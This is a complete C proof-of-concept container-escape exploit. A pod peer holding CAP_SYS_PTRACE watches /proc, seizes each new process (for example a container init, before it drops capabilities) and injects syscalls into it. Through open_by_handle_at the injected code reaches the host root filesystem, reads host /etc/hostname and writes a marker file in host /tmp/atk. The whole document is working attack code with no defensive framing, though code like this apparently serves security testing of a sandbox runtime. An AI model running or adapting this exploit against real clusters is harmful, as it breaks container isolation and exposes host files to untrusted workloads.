// Pod peer with CAP_SYS_PTRACE: hijacks every new process (e.g. the init of a container
// joining our pid namespace, before it drops capabilities) and makes it run syscalls:
// open_by_handle_at on its own root's filesystem -> host '/', read host /etc/hostname,
// append to host /tmp/atk/PWNED, report on its stderr.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <unistd.h>
#include <errno.h>
#include <signal.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/user.h>
#include <sys/syscall.h>
static char seen[1<<22];
static pid_t P; static unsigned long S;
static long sc(long nr, long a, long b, long c, long d) {
    struct user_regs_struct r; ptrace(PTRACE_GETREGS, P, 0, &r);
    r.rip = S; r.rax = nr; r.orig_rax = -1; r.rdi = a; r.rsi = b; r.rdx = c; r.r10 = d;
    ptrace(PTRACE_SETREGS, P, 0, &r);
    int st;
    ptrace(PTRACE_SYSCALL, P, 0, 0); waitpid(P, &st, __WALL);  // entry
    ptrace(PTRACE_SYSCALL, P, 0, 0); waitpid(P, &st, __WALL);  // exit
    ptrace(PTRACE_GETREGS, P, 0, &r);
    return (long)r.rax;
}
static void poke(unsigned long addr, const void *data, size_t n) {
    long w[64] = {0}; memcpy(w, data, n);
    for (size_t i = 0; i < (n + 7) / 8; i++) ptrace(PTRACE_POKEDATA, P, addr + 8*i, w[i]);
}
static int inject(pid_t pid) {
    P = pid;
    if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) != 0) return -1;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0) { ptrace(PTRACE_DETACH, pid, 0, 0); return -2; }
    int st; if (waitpid(pid, &st, __WALL) != pid) return -3;
    struct user_regs_struct r; if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return -4;
    long word = ptrace(PTRACE_PEEKTEXT, pid, r.rip - 2, 0);
    if ((word & 0xffff) != 0x050f) { ptrace(PTRACE_DETACH, pid, 0, 0); return -5; }
    S = r.rip - 2;
    unsigned long m = (r.rsp - 8192) & ~15UL;
    struct { unsigned int bytes; int type; unsigned int ino, gen; } h = {8, 1, 2, 0};
    poke(m, "/", 2); poke(m + 16, &h, sizeof h); poke(m + 48, "etc/hostname", 13); poke(m + 80, "tmp/atk/PWNED", 14);
    long root = sc(SYS_open, m, O_RDONLY|O_DIRECTORY, 0, 0);
    long host = sc(SYS_open_by_handle_at, root, m + 16, O_RDONLY|O_DIRECTORY, 0);
    long f = sc(SYS_openat, host, m + 48, O_RDONLY, 0);
    long n = sc(SYS_read, f, m + 256, 100, 0);
    char msg[200]; int k = snprintf(msg, sizeof msg, "HIJACKED init: root=%ld host=%ld hostname-fd=%ld read=%ld host /etc/hostname: ", root, host, f, n);
    poke(m + 512, msg, k); sc(SYS_write, 2, m + 512, k, 0); if (n > 0) sc(SYS_write, 2, m + 256, n, 0);
    long w = sc(SYS_openat, host, m + 80, O_WRONLY|O_CREAT|O_APPEND, 0644);
    if (w >= 0) { poke(m + 512, "written by a pod peer through a hijacked hako init\n", 51); sc(SYS_write, w, m + 512, 51, 0); }
    k = snprintf(msg, sizeof msg, "open host /tmp/atk/PWNED for write: %ld\n", w); poke(m + 512, msg, k); sc(SYS_write, 2, m + 512, k, 0);
    sc(SYS_exit_group, 0, 0, 0, 0);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    fprintf(stderr, "tracer: hijacked pid %d\n", pid);
    return 0;
}
int main() {
    seen[getpid()] = 1;
    DIR *d = opendir("/proc"); struct dirent *e;
    while ((e = readdir(d))) { int p = atoi(e->d_name); if (p > 0 && p < (1<<22)) seen[p] = 1; } closedir(d);
    fprintf(stderr, "tracer ready\n");
    for (;;) {
        d = opendir("/proc");
        while ((e = readdir(d))) {
            int p = atoi(e->d_name);
            if (p <= 0 || p >= (1<<22) || seen[p]) continue;
            seen[p] = 1; inject(p);
        }
        closedir(d);
    }
}
